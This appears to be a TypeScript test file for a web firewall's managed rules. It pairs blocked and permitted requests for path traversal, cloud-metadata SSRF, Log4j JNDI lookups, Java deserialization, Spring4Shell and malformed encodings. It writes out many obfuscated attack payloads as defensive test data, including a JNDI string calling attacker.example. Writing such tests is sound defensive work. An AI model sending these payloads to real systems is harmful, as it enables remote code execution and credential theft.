import { expect } from 'chai';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import type { FirewallConfig } from './config.js';
import { inspect, type FirewallRequest } from './inspect.js';
import { hasLog4jLookup, isMetadataHost, MANAGED_RULES, MAX_BODY_BYTES, MAX_LOOKUP_DEPTH } from './managed-rules.js';

const ALL: FirewallConfig = { ipAddresses: { allowed: [], blocked: [] }, managedRules: ['common', 'knownBadInputs'], trustedProxies: [] };

type Case = Partial<FirewallRequest> & { label?: string };

function request(overrides: Case = {}): FirewallRequest {
  const { label: _label, ...rest } = overrides;
  return {
    method: 'GET',
    rawUrl: '/demo/demo.Person/1',
    headers: { host: 'public.data.example.com', 'user-agent': 'curl/8.5.0', accept: 'application/json' },
    clientAddress: '198.51.100.1',
    ...rest,
  };
}

const json = (value: unknown) => ({ method: 'POST', rawUrl: '/demo', headers: { host: 'public.data.example.com', 'content-type': 'application/json' }, bodyText: JSON.stringify(value) });
const form = (text: string) => ({ method: 'POST', rawUrl: '/demo', headers: { host: 'public.data.example.com', 'content-type': 'application/x-www-form-urlencoded' }, bodyText: text });
const header = (name: string, value: string) => ({ headers: { host: 'public.data.example.com', [name]: value } });

/** For every managed rule: requests it blocks, and close requests it lets through. */
const CASES: Record<string, { blocks: Case[]; passes: Case[] }> = {
  'common.method': {
    blocks: [{ method: 'TRACE' }, { method: 'track' }, { method: 'CONNECT' }, { method: 'PROPFIND' }],
    passes: ['GET', 'head', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].map((method) => ({ method })),
  },
  'common.body-size': {
    blocks: [
      { method: 'POST', headers: { host: 'x', 'content-length': String(MAX_BODY_BYTES + 1) } },
      { method: 'POST', bodyBytes: MAX_BODY_BYTES + 1 },
      { method: 'POST', bodyText: 'x'.repeat(MAX_BODY_BYTES + 1) },
    ],
    passes: [
      { method: 'POST', headers: { host: 'x', 'content-length': String(MAX_BODY_BYTES) } },
      { method: 'POST', bodyBytes: MAX_BODY_BYTES },
      { method: 'POST', bodyText: '{"create":{"schema":"demo.Person","data":{}}}' },
    ],
  },
  'common.header-size': {
    blocks: [header('x-big', 'a'.repeat(8 * 1024 + 1)), { headers: Object.fromEntries(Array.from({ length: 5 }, (_, i) => [`x-h${i}`, 'a'.repeat(7000)])) }],
    passes: [header('authorization', `Bearer ${'a'.repeat(4000)}.${'b'.repeat(2000)}.c`), header('x-big', 'a'.repeat(8 * 1024))],
  },
  'common.uri-size': {
    blocks: [{ rawUrl: `/demo/demo.Person/${'a'.repeat(2048)}` }],
    passes: [{ rawUrl: `/demo/demo.Person/${'a'.repeat(2000)}` }, { rawUrl: `/demo/demo.Person/1?filter=${'a'.repeat(3000)}` }],
  },
  'common.query-size': {
    blocks: [{ rawUrl: `/demo/demo.Person?filter=${'a'.repeat(4096)}` }],
    passes: [{ rawUrl: `/demo/demo.Person?filter=${'a'.repeat(4000)}` }],
  },
  'common.invalid-encoding': {
    blocks: [
      { rawUrl: '/demo/demo.Person/%zz' },
      { rawUrl: '/demo/demo.Person/100%' },
      { rawUrl: '/demo/demo.Person?filter=name%2' },
      { rawUrl: '/demo/demo.Person/%c0%ae%c0%ae' }, // overlong UTF-8 for ".."
      { rawUrl: '/demo/demo.Person/%ff' },
      { rawUrl: '/demo/demo.Person/%ed%a0%80' }, // a UTF-16 surrogate
      { rawUrl: '/demo/demo.Person/a%00.json' },
      { rawUrl: '/demo/demo.Person/a%0d%0aSet-Cookie:x' },
      { rawUrl: '/demo/demo.Person?filter=a%00b' },
      // Raw bytes as node hands them over (latin1 code units), no escape in sight: overlong UTF-8, a control character.
      { rawUrl: '/demo/demo.Person/\u00c0\u00ae' },
      { rawUrl: '/demo/demo.Person/a\u0001b' },
      header('x-thing', 'a\u0000b'),
    ],
    passes: [
      { rawUrl: '/demo/demo.Person/caf%C3%A9' },
      { rawUrl: '/demo/demo.Person/%E2%82%AC%F0%9F%98%80' },
      { rawUrl: '/demo/demo.Person?filter=name%20%3D%3D%20%22100%25%22&sort=name:desc' },
      { rawUrl: '/demo/demo.Person?filter=a+b' },
      { rawUrl: '/demo/demo.Person?filter=line%0Abreak' },
      json({ create: { schema: 'demo.Person', data: { name: 'nul \u0000 and 100%' } } }),
    ],
  },
  'common.path-traversal': {
    blocks: [
      { rawUrl: '/demo/../etc/passwd' },
      { rawUrl: '/demo/..' },
      { rawUrl: '/demo/..\\..\\windows' },
      { rawUrl: '/demo/%2e%2e%2fetc' },
      { rawUrl: '/demo/%2E%2E/x' },
      { rawUrl: '/demo/.%2e/x' },
      { rawUrl: '/demo/%252e%252e%252fetc' },
      { rawUrl: '/demo/%25252e%25252e/x' },
      { rawUrl: '/demo/..%5cx' },
      { rawUrl: '/demo/..;/admin' },
    ],
    passes: [
      { rawUrl: '/demo/./demo.Person/1' },
      { rawUrl: '/demo/demo.Person/a..b' },
      { rawUrl: '/demo/demo.Person/v1.2.3' },
      { rawUrl: '/demo/demo.Person/...' },
      { rawUrl: '/demo/demo.Person/..foo' },
      { rawUrl: '/demo/demo.Person?filter=path%20%3D%3D%20%22..%2F..%2Fx%22' },
      json({ create: { schema: 'demo.Person', data: { name: 'C:\\..\\..\\boot.ini', path: '../../etc/passwd', email: 'john..doe@example.com' } } }),
    ],
  },
  'common.metadata-address': {
    blocks: [
      header('host', '169.254.169.254'),
      header('host', '169.254.169.254:80'),
      header('host', 'metadata.google.internal'),
      header('x-forwarded-host', '[fd00:ec2::254]'),
      header('host', '100.100.100.200'),
      { rawUrl: 'http://169.254.169.254/latest/meta-data/' },
      { rawUrl: '/demo/demo.Person?source=http%3A%2F%2F169.254.169.254%2Flatest' },
      { rawUrl: '/demo/demo.Person/http:%2F%2Fmetadata.google.internal%2F' },
      json({ create: { schema: 'Transaction', data: { actions: [{ locationUri: 'http://169.254.169.254/latest/meta-data/iam/' }] } } }),
      json({ u: 'http://2852039166/' }),
      json({ u: 'http://0xa9fea9fe/' }),
      json({ u: 'http://0251.0376.0251.0376/' }),
      json({ u: 'http://[::ffff:169.254.169.254]/' }),
      json({ u: 'http://[fd00:ec2::254]/latest' }),
      json({ u: 'http://user:pw@169.254.169.254:80/' }),
      json({ u: 'http:\\\\169.254.169.254\\latest' }),
      json({ u: '//169.254.170.2/v2/credentials' }),
      json({ u: 'gopher://METADATA.GOOGLE.INTERNAL./computeMetadata/v1/' }),
      json({ u: 'http://metadata/computeMetadata/v1/' }),
      json({ u: 'http://100.100.100.200/latest/meta-data/' }),
      { ...json({}), bodyText: '{"u":"http:\\/\\/169.254.169.254\\/latest"}' },
    ],
    passes: [
      header('host', 'public.data.example.com'),
      header('host', '169.254.169.254.example.com'),
      { rawUrl: '/inventory/net.Host/169.254.169.254' },
      { rawUrl: '/inventory/net.Host?filter=ip%20%3D%3D%20%22169.254.169.254%22' },
      json({ create: { schema: 'net.Host', data: { ip: '169.254.169.254', note: 'the metadata service answers on 169.254.169.254' } } }),
      json({ u: 'http://metadata.example.com/', v: 'https://data.example.com/169.254.169.254', w: 'https://example.com/?next=metadata' }),
      json({ path: 'C:\\\\metadata\\\\file', share: 'a//metadata' }),
    ],
  },
  'knownBadInputs.log4j': {
    blocks: [
      header('user-agent', '${jndi:ldap://attacker.example/a}'),
      // In the URL with nothing else a pre-check would see (no `//`, no escape).
      { rawUrl: '/demo/demo.Person?q=${jndi:dns:x}' },
      header('x-api-version', '${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x/a}'),
      header('referer', '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}'),
      header('x-forwarded-for', '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}'),
      header('user-agent', '${${upper:j}${upper:n}${upper:d}${upper:i}:dns://x}'),
      header('user-agent', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}"),
      header('user-agent', '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}'),
      // Percent-encoded in a header: found in the value's decoding.
      header('x-api-version', '%24%7Bjndi:ldap://x/a%7D'),
      { rawUrl: '/demo/demo.Person/%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D' },
      { rawUrl: '/demo/demo.Person?q=%2524%257Bjndi:ldap://x%257D' },
      json({ create: { schema: 'demo.Person', data: { name: '${jndi:rmi://x/a}' } } }),
      { ...json({}), bodyText: '{"name":"\\u0024\\u007bjndi:ldap://x/a}"}' },
    ],
    passes: [
      header('user-agent', 'jndi-client/1.0'),
      json({ create: { schema: 'demo.Person', data: { name: 'We use JNDI: lookups are disabled', template: 'Hello ${name}, ${ greeting }', other: '${jndi}', price: '$ {jndi:x}' } } }),
      { rawUrl: '/demo/demo.Person?filter=name%20%3D%3D%20%22%24%7Bname%7D%22' },
    ],
  },
  'knownBadInputs.java-deserialization': {
    blocks: [
      header('cookie', 'session=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
      // Only the decoding starts a token (`%20` before it is a space once decoded).
      header('x-state', 'a%20rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA'),
      { rawUrl: '/demo/demo.Person?state=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' },
      // Only the query's decoding starts a token: `+` is a space there (the URL's pre-check must see the `+`).
      { rawUrl: '/demo/demo.Person?state=x+rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA' },
      { rawUrl: '/demo/demo.Person?state=x+aced0005737200' },
      json({ create: { schema: 'demo.Blob', data: { payload: 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ' } } }),
      json({ create: { schema: 'demo.Blob', data: { payload: 'ACED0005737200' } } }),
    ],
    passes: [
      json({ create: { schema: 'demo.Blob', data: { payload: 'iVBORw0KGgoAAAANSUhEUgrO0ABxyz', word: 'xrO0ABc', hex: 'ffaced0005' } } }),
      header('authorization', 'Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhIn0.rO0ABsignaturepart'),
      { rawUrl: '/demo/demo.Person?nextToken=eyJvZmZzZXQiOjEwfQ' },
    ],
  },
  'knownBadInputs.spring4shell': {
    blocks: [
      { rawUrl: '/demo?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
      { rawUrl: '/demo?class%2Emodule%2EclassLoader%2EURLs%5B0%5D=x' },
      { rawUrl: "/demo?class['module']['classLoader']=x" },
      { rawUrl: '/demo?class.classLoader.URLs[0]=jar:x' },
      form('class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp'),
      form('class%5Bmodule%5D%5BclassLoader%5D=x'),
    ],
    passes: [
      json({ create: { schema: 'demo.Note', data: { text: 'Spring4Shell used class.module.classLoader to reach Tomcat' } } }),
      { rawUrl: '/demo?classLoader=x&module=y' },
      form('class=economy&module=classLoader'),
    ],
  },
};

describe('managed rules', () => {
  it('has a blocking and a passing case for every rule, and only known rule ids', () => {
    expect(Object.keys(CASES).sort()).to.deep.equal(MANAGED_RULES.map((r) => r.id).sort());
    for (const rule of MANAGED_RULES) {
      expect(rule.blocks.length, rule.id).to.be.greaterThan(10);
      expect(rule.passes.length, rule.id).to.be.greaterThan(10);
      expect(rule.id.startsWith(`${rule.set}.`), rule.id).to.equal(true);
    }
  });

  for (const [ruleId, { blocks, passes }] of Object.entries(CASES)) {
    describe(ruleId, () => {
      it('blocks what it is meant to block', () => {
        for (const [i, c] of blocks.entries()) {
          const verdict = inspect(request(c), ALL);
          expect(verdict?.ruleId, `block case ${i}: ${JSON.stringify(c).slice(0, 200)}`).to.equal(ruleId);
          expect(verdict?.message).to.include(ruleId);
        }
      });
      it('lets close requests through', () => {
        for (const [i, c] of passes.entries()) {
          const verdict = inspect(request(c), ALL);
          expect(verdict, `pass case ${i}: ${JSON.stringify(c).slice(0, 200)} → ${verdict?.ruleId}`).to.equal(undefined);
        }
      });
    });
  }

  it('is documented rule by rule in docs/security.md', () => {
    const doc = readFileSync(fileURLToPath(new URL('../../../docs/security.md', import.meta.url)), 'utf8');
    for (const id of [...MANAGED_RULES.map((r) => r.id), 'ip.blocked', 'ip.not-allowed']) expect(doc, id).to.include(`| \`${id}\` |`);
  });

  it('applies only the enabled rule sets', () => {
    const payload = request(header('user-agent', '${jndi:ldap://x}'));
    expect(inspect(payload, { ...ALL, managedRules: ['common'] })).to.equal(undefined);
    expect(inspect(payload, { ...ALL, managedRules: ['knownBadInputs'] })?.ruleId).to.equal('knownBadInputs.log4j');
    expect(inspect(request({ method: 'TRACE' }), { ...ALL, managedRules: [] })).to.equal(undefined);
    expect(inspect(request({ method: 'TRACE' }), { ...ALL, managedRules: ['knownBadInputs'] })).to.equal(undefined);
  });

  it('checks IP rules before managed rules', () => {
    const config: FirewallConfig = { ...ALL, ipAddresses: { allowed: ['127.0.0.0/8'], blocked: [] } };
    expect(inspect(request({ method: 'TRACE' }), config)?.ruleId).to.equal('ip.not-allowed');
    expect(inspect(request({ clientAddress: '127.0.0.1' }), config)).to.equal(undefined);
  });

  it('judges in two steps: request (before the body) and body', () => {
    const bad = request(json({ name: '${jndi:ldap://x}' }));
    expect(inspect(bad, ALL, 'request')).to.equal(undefined);
    expect(inspect(bad, ALL, 'body')?.ruleId).to.equal('knownBadInputs.log4j');
    expect(inspect(request({ method: 'TRACE', bodyText: '{}' }), ALL, 'body')).to.equal(undefined);
    const blockedClient = { ...ALL, ipAddresses: { allowed: [], blocked: ['198.51.100.0/24'] } };
    expect(inspect(request({ bodyText: '{}' }), blockedClient, 'body')).to.equal(undefined);
    expect(inspect(request({ bodyText: '{}' }), blockedClient, 'request')?.ruleId).to.equal('ip.blocked');
  });

  it('judges a repeated Host header the same way every time, also once its remembered verdicts are dropped', () => {
    const metadata = request(header('host', '169.254.169.254'));
    const ordinary = request(header('host', 'public.data.example.com'));
    for (let i = 0; i < 3; i++) {
      expect(inspect(metadata, ALL)?.ruleId).to.equal('common.metadata-address');
      expect(inspect(ordinary, ALL)).to.equal(undefined);
    }
    for (let i = 0; i < 600; i++) expect(inspect(request(header('host', `h${i}.example.com`)), ALL)).to.equal(undefined);
    expect(inspect(metadata, ALL)?.ruleId).to.equal('common.metadata-address');
    // Tabs vanish in a URL parser: a Host header cannot hide the name behind one.
    expect(inspect(request(header('host', 'meta\tdata')), ALL)?.ruleId).to.equal('common.metadata-address');
    expect(inspect(request(header('host', `${'a'.repeat(300)},169.254.169.254`)), ALL)?.ruleId).to.equal('common.metadata-address');
  });

  it('never echoes the offending input in the message', () => {
    const verdict = inspect(request(header('user-agent', '${jndi:ldap://attacker.example/payload}')), ALL);
    expect(verdict?.message).not.to.include('attacker.example');
  });

  it('stays linear on adversarial bodies', () => {
    const adversarial = [
      `${'a'.repeat(1_000_000)}://`,
      '${'.repeat(200_000),
      `${'${lower:'.repeat(50_000)}j${'}'.repeat(50_000)}`,
      '//'.repeat(200_000),
      `${'%25'.repeat(300_000)}`,
      `${'class['.repeat(100_000)}`,
    ];
    for (const bodyText of adversarial) {
      const started = Date.now();
      inspect(request({ method: 'POST', bodyText }), ALL);
      expect(Date.now() - started, bodyText.slice(0, 20)).to.be.below(2000);
    }
  });

  it('sees through nested Log4j obfuscation and recognises metadata hosts', () => {
    expect(hasLog4jLookup('${${lower:${lower:j}}ndi:x}')).to.equal(true);
    expect(hasLog4jLookup('${${::-${::-j}}ndi:x}')).to.equal(true);
    expect(hasLog4jLookup('${${env:USER}ndi:x}')).to.equal(false);
    const deep = `\${${'${lower:'.repeat(100)}j${'}'.repeat(100)}ndi:ldap://x}`;
    expect(hasLog4jLookup(deep)).to.equal(true);
    expect(hasLog4jLookup(`${'${'.repeat(MAX_LOOKUP_DEPTH + 1)}`)).to.equal(true);
    expect(hasLog4jLookup(`${'${a}'.repeat(10_000)}`)).to.equal(false);
    expect(isMetadataHost('169.254.169.254')).to.equal(true);
    expect(isMetadataHost('[::ffff:a9fe:a9fe]')).to.equal(true);
    expect(isMetadataHost('169.254.169.254.nip.io')).to.equal(false);
    expect(isMetadataHost('not a host')).to.equal(false);
  });
});
